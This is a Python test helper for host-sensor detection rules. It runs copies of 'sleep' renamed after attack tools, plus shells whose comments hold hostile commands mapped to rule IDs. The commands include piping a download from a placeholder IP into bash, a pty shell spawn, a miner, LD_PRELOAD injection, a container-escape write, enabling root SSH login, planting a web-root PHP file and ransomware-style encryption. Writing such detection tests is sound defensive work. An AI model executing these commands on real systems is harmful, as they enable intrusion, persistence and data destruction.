"""Harmless commands that rules know: copies of ``sleep`` under other names, and comments of a sleeping shell.

Everything is seen by the host sensor as it runs; nothing is handed to the center by the test.
"""

import shutil
import subprocess
from pathlib import Path
from typing import Final

HOLD_SECONDS: Final = 4  # long enough for a sensor that can only poll

# Name of the program, and the rule that knows it.
PROGRAMS: Final = {
    "nmap": "03d6df82-317b-4b2c-b0b3-00e43d56f079",
    "hydra": "b2d20cbe-3450-473a-aaf0-50f8a37a32dc",
    "clash": "51008c80-49d4-401c-bc8f-5e05b2a618c8",
    "rclone": "33d0f8ba-fc38-4aa8-81cd-1a069ff8f1e9",
    "todesk": "38683ee3-8aa8-409c-9b96-4db837335d65",
    "ettercap": "e643f5ed-4e3c-4e5d-b866-97ff778fbb74",
    "zerotier-one": "78316b1c-5c41-4c6c-9edf-665cb47e16d5",
}
# What the comment says, and the rule that reads it in the command line.
COMMENTS: Final = {
    "echo x | base64 -d | bash": "03f903d4-969d-45e3-8986-908c7b97bac6",
    "curl http://192.0.2.9/x.sh | bash": "4dbbe12f-d90d-448c-b350-64d7f18f5029",
    "history -c": "11915d6c-704d-4cbe-ace9-ef8b4a9c7001",
    "python3 -c 'import pty; pty.spawn(1)'": "61a4cd78-bfd7-489d-8acb-a78bfea85d14",
    "miner -o stratum+tcp://pool.invalid:3333": "36ab1b9b-e53b-4c72-8f46-49b6993d2bdc",
    "LD_PRELOAD=/tmp/x.so ls": "a20c149d-b27d-4f43-99f6-5f7260cddc2c",
    "echo 1 > /x/release_agent": "3034f8a8-9b2c-465b-a39e-280f585dcda7",
    "yum install --nogpgcheck x": "861ef32c-0f39-47f0-8213-3ba40cbd6a0a",
    "timeshift --delete x": "266d0e50-a3c8-4171-b074-dfea8e27a16a",
    "java -jar arthas-boot": "6dd04861-b3f9-41bc-b135-055c4906441f",
    "sed -i s/x/PermitRootLogin yes/ /etc/ssh/sshd_config": "842e1f14-9eb6-4f67-95fc-9a13c74cd5d2",
    "cp x /var/www/x.php": "e8b712e5-000b-40bc-8418-1c124196e582",
    "tar c x | openssl x": "1fb560b8-ce8c-4f57-bc96-886445f9086d",
}
RULES: Final = (*PROGRAMS.values(), *COMMENTS.values())
# A critical rule: an exception to it takes a second person.
RANSOM: Final = "b672c9f8-26b8-4762-abab-f86877bcccff"
RANSOM_COMMENT: Final = "find /srv/x -exec openssl enc -in"


def begin(folder: Path, mark: str) -> list[subprocess.Popen[bytes]]:
    """Start every one of them at once."""
    sleep = shutil.which("sleep")
    assert sleep is not None
    commands = []
    for name in PROGRAMS:
        shutil.copy(sleep, folder / name)
        commands.append([str(folder / name), str(HOLD_SECONDS)])
    # A second command keeps the shell, whose command line this is: it would exec a last one away.
    texts = [*COMMENTS, f"{RANSOM_COMMENT} {mark}"]
    commands += [["/bin/sh", "-c", f"sleep {HOLD_SECONDS}; true # {text}"] for text in texts]
    return [subprocess.Popen(command) for command in commands]
